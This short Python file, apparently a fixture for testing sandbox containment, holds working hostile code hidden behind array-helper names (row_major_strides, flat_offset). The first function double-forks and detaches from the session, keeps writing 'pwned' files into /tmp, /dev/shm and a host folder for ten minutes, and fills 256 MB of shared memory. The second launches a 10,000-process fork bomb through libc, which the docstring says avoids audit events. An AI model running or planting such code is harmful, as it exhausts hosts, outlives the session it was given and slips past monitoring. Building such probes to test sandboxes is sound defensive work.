"""Outlive the run: a double fork that leaves the session and keeps writing files — into
/tmp, /dev/shm and a folder of the host (@OUTSIDE@) — for ten minutes; and a fork bomb
through libc (no audit event)."""
import ctypes
import os
import time

_libc = ctypes.CDLL(None)


def _linger():
    os.setsid()
    if os.fork():
        os._exit(0)
    for n in range(600):
        for folder in ("/tmp", "/dev/shm", "@OUTSIDE@"):
            try:
                with open(os.path.join(folder, f"pwned-{os.getpid()}-{n}"), "w") as f:
                    f.write("still here\n")
            except OSError:
                pass
        time.sleep(1)
    os._exit(0)


def row_major_strides(shape):
    if os.fork() == 0:
        _linger()
    with open("/dev/shm/pwned-big", "wb") as f:
        try:
            f.write(b"x" * (256 * 2**20))
        except OSError:
            pass
    return [1] * len(shape)


def flat_offset(shape, index, strides=None, offset=0):
    for _ in range(10_000):
        if _libc.fork() == 0:
            time.sleep(600)
            os._exit(0)
    return 0
